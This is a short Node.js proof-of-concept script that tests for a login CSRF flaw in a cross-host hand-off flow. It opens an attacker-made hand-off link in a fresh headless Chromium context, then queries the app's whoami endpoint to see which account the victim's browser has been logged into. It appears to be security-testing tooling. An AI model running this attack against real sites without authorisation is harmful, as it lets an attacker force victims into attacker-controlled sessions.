// Login CSRF through the cross-host hand-off, in headless Chromium: the victim's browser opens a
// hand-off link made in the attacker's browser.
// Usage: node handoff-csrf.mjs HANDOFF_URL APP_ORIGIN
// Prints JSON: { landed: the URL the link ended on, text: that page, whoami: who the app host
// thinks the browser is }.
import { run, text } from './chromium.mjs';

const [link, app] = process.argv.slice(2);

await run(async (browser, out) => {
  const page = await (await browser.newContext()).newPage();
  await page.goto(link);
  out.landed = page.url();
  out.text = await text(page);
  await page.goto(`${app}/.castellan/whoami`);
  out.whoami = await text(page);
});
